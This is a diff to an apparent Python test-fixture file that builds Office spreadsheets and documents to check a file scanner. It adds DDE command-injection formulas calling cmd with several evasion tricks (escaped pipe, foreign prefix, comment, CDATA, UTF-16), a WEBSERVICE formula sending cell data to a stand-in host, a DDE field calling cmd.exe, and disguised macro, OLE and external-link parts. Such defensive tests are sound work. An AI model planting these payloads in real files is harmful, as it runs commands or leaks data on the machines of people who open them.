@@ -6,6 +6,7 @@ import io
 import struct
 import warnings
 import zipfile
+from functools import partial
 from typing import TYPE_CHECKING
 
 if TYPE_CHECKING:
@@ -39,8 +40,8 @@ def office(main: str, *parts: Part, first: Part | None = None) -> bytes:
     return out.getvalue()
 
 
-def link(kind: str, target: str) -> bytes:
-    row = f'<Relationship Id="r1" Type="{LINKS}{kind}" Target="{target}" TargetMode="External"/>'
+def link(kind: str, target: str, mode: str = "External") -> bytes:
+    row = f'<Relationship Id="r1" Type="{LINKS}{kind}" Target="{target}" TargetMode="{mode}"/>'
     return f"<Relationships>{row}</Relationships>".encode()
 
 
@@ -124,6 +125,54 @@ OFFICE: list[tuple[str, str, Callable[[], bytes], str]] = [
         "sheet that calls",
         "d.xlsx",
         lambda: office(XLSX, (SHEET, b"<sheet><c><f>cmd|'/C calc'!A0</f></c></sheet>")),
+        "outside",
+    ),
+    *(
+        (
+            f"sheet that calls {how}",
+            "d1.xlsx",
+            partial(office, XLSX, (SHEET, f"<sheet><c>{formula}</c></sheet>".encode(code))),
+            refused,
+        )
+        for how, formula, code, refused in (
+            ("by the number of a sign", "<f>cmd&#124;'/C calc'!A0</f>", "utf-8", "outside"),
+            ("under another prefix", "<x-y:f>cmd|'/C calc'!A0</x-y:f>", "utf-8", "outside"),
+            ("after a comment", "<f>cmd<!-- -->|'/C calc'!A0</f>", "utf-8", "odd"),
+            ("as plain characters", "<f><![CDATA[cmd|'/C calc'!A0]]></f>", "utf-8", "odd"),
+            ("in wide signs", "<f>cmd|'/C calc'!A0</f>", "utf-16", "odd"),
+            ("a site", "<f>WEBSERVICE(&quot;http://x/&quot;&amp;A1)</f>", "utf-8", "outside"),
+        )
+    ),
+    (
+        "sheet that adds up",
+        "sum.xlsx",
+        lambda: office(
+            XLSX, (SHEET, b'<sheet><c><f t="shared" si="0"/><f>A1&amp;"|"&amp;B1</f></c></sheet>')
+        ),
+        "kept",
+    ),
+    *(
+        (
+            f"{kind} under a name of its own",
+            "n.xlsx",
+            partial(
+                office,
+                XLSX,
+                ("xl/a.bin", b"x"),
+                ("xl/_rels/workbook.xml.rels", link(kind, "a.bin", "Internal")),
+            ),
+            refused,
+        )
+        for kind, refused in (
+            ("externalLink", "outside"),
+            ("oleObject", "inside"),
+            ("vbaProject", "macros"),
+        )
+    ),
+    (
+        "text that calls by the number of a sign",
+        "d3.docx",
+        lambda: office(DOCX, ("word/document.xml", field("D&#68;E c:\\\\cmd.exe"))),
         "outside",
     ),
     (
